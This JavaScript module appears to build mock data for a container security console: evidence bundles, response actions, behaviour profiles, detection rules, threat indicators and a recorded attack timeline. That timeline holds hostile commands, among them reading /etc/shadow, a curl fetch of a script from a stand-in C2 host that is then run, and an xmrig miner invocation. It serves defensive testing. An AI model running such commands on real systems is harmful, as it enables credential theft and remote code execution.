// Made-up actions, evidence, profiles, rule files, indicators and recorder, for the mock console.
import { hostile } from './data.mjs';

const time = (ms) => new Date(ms).toISOString();
let seq = 0;
const ulid = (ms) =>
  (
    ms.toString(32).toUpperCase().padStart(10, '0') +
    (++seq).toString(32).toUpperCase().padStart(16, '0')
  ).slice(0, 26);
const hash = (n) =>
  Array.from({ length: 64 }, (_, i) => ((n * 7919 + i * i * 31) % 16).toString(16)).join('');
const base = { pid: 0, rev: 1, removed: false, reversible: false };
const undoing = { freeze: 'unfreeze', isolate: 'release' };

const collectors = {
  'process tree': ['proc/tree.json', 'proc/1/status', 'proc/1/maps'],
  'open files': ['proc/1/fd.json', 'proc/17/fd.json'],
  sockets: ['net/sockets.json'],
  environment: ['proc/1/environ.json'],
  executables: ['exe/nginx', 'exe/xmrig (deleted)'],
  changes: [
    'changes/list.json',
    'changes/usr/share/nginx/html/shell.php',
    `changes/tmp/${hostile}`,
  ],
  recorder: ['recorder/events.jsonl'],
};

function evidenceOf(c, host, now, i, extra) {
  return {
    id: ulid(now),
    host_id: c.host_id,
    hostname: host,
    container_id: c.id,
    container_name: c.name,
    image: c.image,
    requested_by: ['admin', 'rule Crypto miner started'][i % 2],
    reason: 'reverse shell, under investigation',
    time: time(now),
    took_ms: 842,
    size: 4_812_345,
    sha256: hash(i + 3),
    previous: i ? hash(i + 2) : undefined,
    fingerprint: 'SHA256:Zk3vLqv0m1fJ8b2dXo9yTQ0k5aRrS7cP4uWnE6hGtYI',
    path: `/var/lib/skep/evidence/${ulid(now)}.tar.zst`,
    here: i === 0,
    error: i === 1 ? 'executables: /proc/17/exe: 88 MB are over the limit of 64 MB' : undefined,
    files: Object.entries(collectors).flatMap(([collector, names], k) =>
      names.map((name, n) => ({
        name,
        collector,
        size: 1200 * (k + 1) * (n + 3),
        sha256: hash(k * 10 + n),
        error: i === 1 && n === 1 && k === 4 ? 'cut after 64 MB' : undefined,
      })),
    ),
    ...extra,
  };
}

function actionsOf(c, now, evidence) {
  const of = (kind, state, ago, more) => ({
    ...base,
    id: ulid(now - ago),
    host_id: c[0].host_id,
    kind,
    state,
    container_id: c[0].id,
    container_name: c[0].name,
    requested_by: 'admin',
    reason: 'reverse shell, under investigation',
    requested: time(now - ago),
    started: time(now - ago + 40),
    finished: state === 'running' || state === 'requested' ? undefined : time(now - ago + 300),
    reversible: kind in undoing,
    ...more,
  });
  const on = (x) => ({ container_id: x.id, container_name: x.name, host_id: x.host_id });
  return [
    of('isolate', 'done', 240_000, {
      params: ['10.0.0.7:443'],
      expires: time(now + 3_400_000),
      result:
        'packets of its sockets are held back by programs on its cgroup, but those of the exceptions',
    }),
    of('collect', 'done', 250_000, {
      evidence_id: evidence[0].id,
      result: '14 files, 4812345 bytes, in 842 ms',
    }),
    of('kill_container', 'refused', 3_600_000, {
      ...on(c[4]),
      error: 'container "cache" is protected: label skep.protect=true',
    }),
    of('freeze', 'undone', 7_200_000, { ...on(c[2]), result: 'all its processes go on' }),
    of('kill_process', 'done', 9_000_000, {
      ...on(c[5]),
      pid: 4711,
      requested_by: 'rule Crypto miner started',
      reason: 'Crypto miner started (command=xmrig -o stratum+tcp://pool:3333)',
      result: 'killed by pidfd',
    }),
    of('freeze', 'expired', 86_400_000, { ...on(c[1]), result: 'its time was over' }),
  ];
}

const aspectsOf = (modes, now) =>
  ['exec', 'file', 'listen', 'peer', 'dns', 'capability', 'user'].map((aspect, i) => ({
    aspect,
    mode: modes[i] ?? 'off',
    since: time(now - 86400_000 * (i + 1)),
    evidence: modes[i] === 'off' ? 0 : 4000 * (7 - i),
    changed: modes[i] === 'off' ? undefined : time(now - 3600_000 * (i + 2)),
  }));

function entriesOf(now) {
  const e = (aspect, value, more = {}) => ({
    aspect,
    value,
    count: 40 + value.length * 13,
    first: time(now - 86400_000 * 6),
    last: time(now - 60_000 * value.length),
    by_person: false,
    denied: false,
    ...more,
  });
  return [
    e('exec', '/usr/sbin/nginx', { parent_exe: '*', shape: '-g <text>' }),
    e('exec', '/usr/bin/git', { parent_exe: '/bin/sh', shape: 'pull --ff-only <word>+' }),
    e('exec', '/bin/busybox:wget', {
      parent_exe: '/bin/sh',
      shape: '-q <url>',
      denied: true,
      by_person: true,
    }),
    e('exec', '/opt/bin/*', { parent_exe: '*', shape: '*', by_person: true }),
    e('exec', `/tmp/${hostile}`, { parent_exe: '/bin/sh', shape: '*', digest: 'sha256:abc' }),
    e('file', '/var/cache/nginx/<h>/<n>'),
    e('file', '/var/log/nginx/*.log'),
    e('listen', 'tcp/80'),
    e('listen', 'tcp/8443'),
    e('peer', 'out tcp 10.2.3.0/24:5432'),
    e('peer', 'in tcp private:80'),
    e('user', '101', { parent_exe: '/usr/sbin/nginx' }),
  ];
}

function profilesOf(now) {
  const p = (i, name, image, modes, more) => ({
    id: hash(i + 40).slice(0, 32),
    name,
    image,
    owner: name.split(' ')[0],
    image_digest: `sha256:${hash(i)}`,
    aspects: aspectsOf(modes, now),
    entries: i === 3 ? [] : entriesOf(now),
    version: 4 - i,
    containers: 12 - i * 3,
    deviations: [7, 0, 31, 0][i],
    created: time(now - 86400_000 * 9),
    updated: time(now - 3600_000 * (i + 1)),
    updated_by: i % 2 ? 'skep' : 'admin',
    rev: 10 + i,
    removed: false,
    ...more,
  });
  return [
    p(0, 'nginx (web)', 'nginx', ['enforce', 'watch', 'enforce', 'watch', 'off', 'off', 'watch'], {
      grace_until: time(now + 5 * 3600_000),
    }),
    p(1, 'payments/api (payments)', 'registry.example.com/payments/api', [
      'watch',
      'watch',
      'watch',
      'watch',
      'off',
      'off',
      'learn',
    ]),
    p(2, '平台/订单服务 (订单服务)', 'registry.example.com/平台/订单服务', [
      'watch',
      'off',
      'watch',
      'learn',
      'off',
      'off',
      'learn',
    ]),
    p(3, 'busybox (job)', 'busybox', ['learn', 'learn', 'learn', 'learn', 'off', 'off', 'learn']),
  ];
}

export function profileYaml(p, version = p.version) {
  const drop = p.version - version;
  const lines = [
    `id: ${p.id}`,
    `name: ${p.name}`,
    `image: ${p.image}`,
    `version: ${version}`,
    'modes:',
  ];
  for (const a of p.aspects)
    lines.push(`  ${a.aspect}: ${drop && a.aspect === 'exec' ? 'watch' : a.mode}`);
  lines.push('entries:');
  for (const aspect of new Set(p.entries.map((e) => e.aspect))) {
    lines.push(`  ${aspect}:`);
    for (const e of p.entries.filter((x) => x.aspect === aspect).slice(drop))
      lines.push(`    - ${JSON.stringify(e.value)}${e.denied ? ' # denied' : ''}`);
  }
  return `${lines.join('\n')}\n`;
}

const custom = `# Rules of our own.
- list: backup_tools
  items: [rsync, restic, borg]

- rule: Backup started in a container
  desc: A tool that copies everything was started.
  condition: >
    spawned_process and container
    and proc.name in (backup_tools)
    and not container.image startswith "registry.example.com/backup"
  output: Backup started (command=%proc.cmdline container=%container.name)
  priority: WARNING
  tags: [container, T1560]
`;

export function addRespond(world, now) {
  const c = world.containers;
  const host = (x) => world.hosts.find((h) => h.id === x.host_id)?.name;
  world.evidence = [0, 1, 4].map((k, i) =>
    evidenceOf(c[k], host(c[k]), now - 250_000 * (i * i * 9 + 1), i),
  );
  world.actions = actionsOf(c, now, world.evidence);
  world.profiles = profilesOf(now);
  world.profile_versions = world.profiles.flatMap((p) =>
    Array.from({ length: p.version }, (_, i) => ({
      id: `${p.id}:${p.version - i}`,
      profile_id: p.id,
      version: p.version - i,
      time: time(now - 3600_000 * (i * 7 + 1)),
      user: i % 2 ? 'skep' : 'admin',
      change: [
        'enforce exec; allow exec /opt/bin/*',
        'promoted: watch exec, watch listen',
        'deny exec /bin/busybox:wget',
        'learned',
      ][i],
    })),
  );
  world.indicators = [
    ['ip', '203.0.113.66', 'feed-c2', 'command and control'],
    ['ip', '198.51.100.0/24', 'feed-c2', 'hosting of droppers'],
    ['domain', 'pool.minexmr.example', 'miners', 'mining pool'],
    ['sha256', hash(5), 'manual', 'xmrig 6.21'],
    ['url', 'http://203.0.113.66/x.sh', 'manual', hostile],
    ['md5', hash(9).slice(0, 32), 'manual', undefined],
  ].map(([type, value, list, desc], i) => ({
    id: `${type}:${value}`,
    type,
    value,
    list,
    desc,
    priority: ['critical', 'warning'][i % 2],
    created: time(now - 86400_000 * i),
    expires: i % 3 ? undefined : time(now + 86400_000 * 30),
    created_by: 'admin',
    rev: i,
    removed: false,
  }));
  world.rulefiles = [
    ['10-backup.yaml', custom, false],
    [
      '20-old.yaml',
      '- rule: Old\n  desc: d\n  condition: evt.type = open\n  output: x\n  priority: NOTICE\n',
      true,
    ],
    ['zz-switches.yaml', '- rule: Reverse shell\n  enabled: false\n', false],
  ].map(([name, text, disabled], i) => ({
    id: ulid(now - i),
    name,
    text,
    disabled,
    created: time(now - 86400_000 * 4),
    updated: time(now - 3600_000 * (i + 1)),
    updated_by: ['admin', '王小明', 'admin'][i],
    rev: i,
    removed: false,
  }));
  world.slices = [];
  world.exceptions ??= [];
  world.exceptions.push(
    ...[
      [
        'Nightly backup reads everything',
        'Read sensitive file in a container',
        'container.image startswith "registry.example.com/backup" and proc.name = restic',
        'admin',
        30,
        412,
      ],
      [
        'CI builds in containers',
        undefined,
        'container.name startswith "ci-"',
        '王小明',
        undefined,
        9033,
      ],
      ['Pentest of week 46', 'Reverse shell', 'fd.sip = 198.51.100.7', 'admin', -3, 0],
    ].map(([name, rule, condition, owner, days, hits], i) => ({
      id: ulid(now - i * 86400_000),
      name,
      rule,
      condition,
      owner,
      reason: 'agreed with the owner of the workload',
      created: time(now - i * 86400_000),
      expires: days && time(now + days * 86400_000),
      disabled: false,
      hits,
      last_hit: hits ? time(now - 3600_000 * (i + 1)) : undefined,
      rev: i,
      removed: false,
    })),
  );
}

/** What a container did in its last minutes: a quiet service, then an attack. */
function recorded(world, c, from, to) {
  const all = world.processes.filter((p) => p.container_id === c.id);
  const init = all[0] ?? world.process(c, 'sh', 'sh', undefined, from);
  const span = to - from;
  const events = [];
  const add = (at, type, proc, evt = {}, fd = {}) =>
    events.push({
      id: '',
      host_id: c.host_id,
      evt: {
        num: 0,
        time: time(from + span * at),
        type,
        rawres: 0,
        failed: false,
        blocked: false,
        is_open_read: false,
        is_open_write: false,
        is_open_create: false,
        target_pid: 0,
        ...evt,
      },
      fd: { num: -1, typechar: '', lport: 0, rport: 0, ...fd },
      proc,
      container: { id: c.id, name: c.name, image: c.image },
    });
  const start = (name, cmdline, parent, at) => {
    const p = {
      ...world.process(c, name, cmdline, parent, from + span * at),
      exit_time: undefined,
    };
    add(at, 'execve', p);
    return p;
  };
  for (let i = 0; i < 240; i++) {
    const at = i / 240;
    add(
      at,
      'openat',
      init,
      { is_open_read: true },
      { typechar: 'f', num: 5, name: `/usr/share/nginx/html/page-${i % 9}.html` },
    );
    if (i % 3 === 0)
      add(
        at + 0.0004,
        'accept4',
        init,
        {},
        { typechar: '4', num: 7, lip: '172.17.0.2', lport: 80, rip: '10.0.0.31', rport: 40000 + i },
      );
    if (i % 20 === 0)
      add(
        at + 0.0006,
        'openat',
        init,
        { is_open_write: true, is_open_create: true },
        { typechar: 'f', num: 6, name: '/var/log/nginx/access.log' },
      );
  }
  const shell = start('sh', 'sh -c "id; uname -a; cat /etc/shadow"', init, 0.61);
  const cat = start('cat', 'cat /etc/shadow', shell, 0.615);
  add(0.616, 'openat', cat, { is_open_read: true }, { typechar: 'f', num: 3, name: '/etc/shadow' });
  add(0.62, 'procexit', cat);
  const curl = start('curl', 'curl -s http://203.0.113.66/x.sh -o /tmp/.x', shell, 0.64);
  add(
    0.642,
    'connect',
    curl,
    {},
    { typechar: '4', num: 4, lip: '172.17.0.2', lport: 51234, rip: '203.0.113.66', rport: 80 },
  );
  add(
    0.65,
    'openat',
    curl,
    { is_open_write: true, is_open_create: true },
    { typechar: 'f', num: 5, name: '/tmp/.x' },
  );
  add(0.66, 'procexit', curl);
  add(0.665, 'fchmodat', shell, { path: '/tmp/.x' });
  const x = start('.x', '/tmp/.x --threads 8', shell, 0.67);
  for (let i = 0; i < 60; i++)
    add(0.68 + i * 0.003, 'connect', x, i % 4 ? {} : { failed: true, rawres: -111 }, {
      typechar: '4',
      num: 4,
      lip: '172.17.0.2',
      lport: 52000 + i,
      rip: `10.0.0.${i + 1}`,
      rport: 22,
    });
  add(0.9, 'setuid', x, { arg0: 0 });
  add(0.91, 'unshare', x, { failed: true, rawres: -1, blocked: true });
  add(0.92, 'ptrace', x, { target_pid: 1 });
  add(0.99, 'procexit', x);
  add(0.995, 'procexit', shell);
  return events
    .sort((a, b) => a.evt.time.localeCompare(b.evt.time))
    .map((e, i) => ({ ...e, id: `e${i}`, evt: { ...e.evt, num: i + 1 } }));
}

function answer({ world, put }, act, mockState) {
  const param = (k) => act.params?.find((p) => p.startsWith(`${k}=`))?.slice(k.length + 1);
  const to = Date.parse(param('until') ?? '') || Date.now();
  const from = Date.parse(param('since') ?? '') || to - 900_000;
  const c = world.containers.find((x) => x.id === act.container_id);
  const step = (state, more) => {
    const now = world.actions.find((a) => a.id === act.id);
    if (now) put('actions', { ...now, state, ...more });
  };
  if (mockState.scenario === 'slow') return;
  setTimeout(() => step('running', { result: '12 of 96 MiB read' }), 150);
  const filter = param('filter');
  if (filter?.includes('nmae'))
    return setTimeout(
      () =>
        step('refused', { error: 'filter:1:1: unknown field "proc.nmae"\n  proc.nmae = x\n  ^' }),
      300,
    );
  const record = {
    events_read: 812_345,
    blocks_read: 96,
    blocks_skipped: 410,
    damaged: 0,
    not_recorded: 17,
    lost: 4,
  };
  const summary = { events: 0, first: time(from), last: time(to), record, gaps: [] };
  let events = [];
  if (param('rules') !== undefined) {
    const alerts = world.alerts.slice(0, 6);
    Object.assign(summary, {
      rules: 2,
      alerts_total: 14,
      not_watched: 'sendto, recvfrom',
      items: [
        {
          rule: 'Backup started in a container',
          priority: 'warning',
          alerts: 14,
          times: 230,
          first: time(from + 60_000),
          last: time(to - 9000),
        },
      ],
      alerts: alerts.map((a) => ({ ...a, rule: 'Backup started in a container' })),
    });
  } else if (c) {
    events = recorded(world, c, from, to);
    Object.assign(summary, {
      events: events.length,
      given: events.length,
      truncated: false,
      left_out: 0,
      gaps: [
        { from: time(from + (to - from) * 0.42), to: time(from + (to - from) * 0.45), events: 17 },
      ],
    });
  }
  setTimeout(() => {
    for (let part = 0; part * 500 < Math.max(1, events.length); part++) {
      const last = (part + 1) * 500 >= events.length;
      world.slices.push({
        id: `${act.id}:${String(part).padStart(6, '0')}`,
        action_id: act.id,
        part,
        last,
        lost: 0,
        items: events.slice(part * 500, part * 500 + 500),
        summary: last ? JSON.stringify(summary) : undefined,
      });
    }
    step('done', { result: `${events.length} events`, finished: time(Date.now()) });
  }, 400);
}

function addAction(m, body) {
  const { world, put, fail } = m;
  const c = world.containers.find((x) => x.id === body.container_id);
  const now = Date.now();
  if (body.reason?.includes('refuse'))
    return fail(422, 'other_host', 'that container is on host "node-7"');
  const act = {
    ...base,
    id: ulid(now),
    state: 'requested',
    requested: time(now),
    requested_by: m.user,
    container_name: c?.name,
    host_id: c?.host_id ?? body.host_id,
    reversible: body.kind in undoing,
    ...body,
    expires: body.expires_s ? time(now + body.expires_s * 1000) : undefined,
  };
  put('actions', act);
  if (body.kind === 'record_query') answer(m, act, m.state);
  else if (m.state.scenario !== 'slow')
    setTimeout(
      () =>
        put('actions', {
          ...act,
          state: 'done',
          finished: time(Date.now()),
          result: `${body.kind} through cgroup.freeze`,
        }),
      250,
    );
  return { status: 201, body: act };
}

function undo(m, old, body) {
  const { put, fail, user } = m;
  if (!(old.kind in undoing))
    return fail(409, 'not_reversible', `${old.kind} cannot be taken back`);
  const act = {
    ...old,
    id: ulid(Date.now()),
    kind: undoing[old.kind],
    undo_of: old.id,
    state: 'requested',
    reason: body.reason ?? 'taken back',
    requested_by: user,
    requested: time(Date.now()),
    result: undefined,
    reversible: false,
  };
  put('actions', act);
  setTimeout(() => {
    put('actions', { ...act, state: 'done', finished: time(Date.now()) });
    put('actions', { ...old, state: 'undone' });
  }, 250);
  return { status: 201, body: act };
}

const plainText = (text) => ({ status: 200, body: text, type: 'application/yaml' });

/** Is there what the text names? A stand-in for loading rules: one misspelt field is known. */
function check(body) {
  const at = body.text.split('\n').findIndex((l) => l.includes('nmae'));
  if (at >= 0) {
    const line = body.text.split('\n')[at];
    const col = line.indexOf('proc.nmae') + 1 || 1;
    return {
      ok: false,
      error: `console/${body.name}:${at + 1}:${col}: unknown field "proc.nmae"; did you mean "proc.name"?\n${line}\n${' '.repeat(col - 1)}^`,
      rules: [],
      warnings: [],
    };
  }
  return {
    ok: true,
    rules: [...body.text.matchAll(/^- rule: (.*)$/gm)].map((m) => m[1]),
    warnings: body.text.includes('prioritty')
      ? [`console/${body.name}:9:3: unknown key "prioritty" is ignored`]
      : [],
  };
}

function importIndicators({ world, put }, q, text) {
  const lines = text.split('\n').filter((l) => l.trim() && !l.startsWith('#'));
  const good = lines.filter((l) => /^[\w.:/-]+$/.test(l) && /[.:]/.test(l));
  for (const value of good)
    put('indicators', {
      id: `ip:${value}`,
      type: 'ip',
      value,
      list: q.get('list'),
      priority: q.get('priority'),
      created: time(Date.now()),
      rev: 1,
      removed: false,
    });
  const skips = lines
    .map((l, i) => ({ line: i + 1, text: l, why: 'no address, name, hash or URL' }))
    .filter((s) => !good.includes(s.text));
  void world;
  return {
    list: q.get('list'),
    type: 'list',
    taken: good.length,
    changed: good.length,
    unchanged: 0,
    twice: 0,
    skipped: skips.length,
    skips,
  };
}

function changeProfile({ put }, p, body) {
  const same = (a, b) => a.aspect === b.aspect && a.value === b.value;
  let entries = [...p.entries];
  for (const e of body.remove ?? []) entries = entries.filter((x) => !same(x, e));
  for (const how of ['allow', 'deny'])
    for (const e of body[how] ?? []) {
      entries = entries.filter((x) => !same(x, e));
      entries.push({ count: 0, ...e, by_person: true, denied: how === 'deny' });
    }
  const on = { learn: 'watch', watch: 'enforce' };
  const aspects = p.aspects.map((a) => ({
    ...a,
    mode: body.modes?.[a.aspect] ?? (body.promote && a.mode in on ? on[a.mode] : a.mode),
  }));
  const now = { ...p, entries, aspects, version: p.version + 1, updated: time(Date.now()) };
  put('profiles', now);
  return now;
}

/** An answer, or undefined: not ours. m: what the mock offers. */
export function respondApi(m, method, path, q, body, text) {
  const { world, put, fail, ok } = m;
  const parts = path.split('/').slice(1).map(decodeURIComponent);
  const [plural, id, more] = parts;
  const find = (list) => world[list].find((o) => o.id === id);
  if (path === '/actions' && method === 'POST') return addAction(m, body);
  if (plural === 'actions' && more === 'undo') {
    const old = find('actions');
    return old ? undo(m, old, body) : fail(404, 'not_found', 'no action with this id');
  }
  if (plural === 'evidence' && more === 'download') {
    const e = find('evidence');
    if (!e) return fail(404, 'not_found', 'no evidence with this id');
    if (e.here) return { status: 200, body: 'zstd', type: 'application/zstd' };
    setTimeout(() => put('evidence', { ...e, here: true }), 1500);
    return { status: 202, body: {} };
  }
  if (path === '/rules/check') return ok(check(body));
  if (path === '/rules/switch') {
    const r = m.rules.find((x) => x.name === body.rule);
    if (r) r.enabled = body.enabled;
    return ok(world.rulefiles[2]);
  }
  if (plural === 'rulefiles' && (method === 'POST' || method === 'PATCH')) {
    const c = check(body);
    if (!c.ok) return fail(400, 'bad_rules', c.error);
    if (world.rulefiles.some((f) => f.name === body.name && f.id !== id))
      return fail(409, 'name_taken', `there is a rule file "${body.name}" already`);
    const f = {
      ...(find('rulefiles') ?? {
        id: ulid(Date.now()),
        created: time(Date.now()),
        rev: 1,
        removed: false,
      }),
      ...body,
      updated: time(Date.now()),
      updated_by: m.user,
    };
    put('rulefiles', f);
    return { status: id ? 200 : 201, body: f };
  }
  if (path === '/indicators/import') return ok(importIndicators(m, q, text));
  if (path === '/indicators' && method === 'DELETE') {
    const before = world.indicators.length;
    world.indicators = world.indicators.filter((i) => i.list !== q.get('list'));
    return ok({ removed: before - world.indicators.length });
  }
  if (path === '/indicators' && method === 'POST') {
    if (!/[.:]|^[0-9a-f]{32,}$/.test(body.value))
      return fail(
        422,
        'bad_value',
        `"${body.value}": no address, name, hash or URL`,
        'an address, a network, a name, a hash (MD5, SHA-1, SHA-256) or a URL',
      );
    const i = {
      id: `ip:${body.value}`,
      type: 'ip',
      created: time(Date.now()),
      rev: 1,
      removed: false,
      ...body,
    };
    put('indicators', i);
    return { status: 201, body: i };
  }
  if (more === 'yaml') {
    const p = world.profiles.find((x) => x.id === id.split(':')[0]);
    if (!p) return fail(404, 'not_found', 'no profile with this id');
    if (method === 'GET') return plainText(profileYaml(p, Number(id.split(':')[1]) || p.version));
    if (!text.includes('modes:')) return fail(400, 'bad_profile', 'line 1: "modes" is missing');
    return ok(changeProfile(m, p, {}));
  }
  if (plural === 'profiles' && method === 'PATCH') {
    const p = find('profiles');
    return p ? ok(changeProfile(m, p, body)) : fail(404, 'not_found', 'no profile with this id');
  }
  return undefined;
}
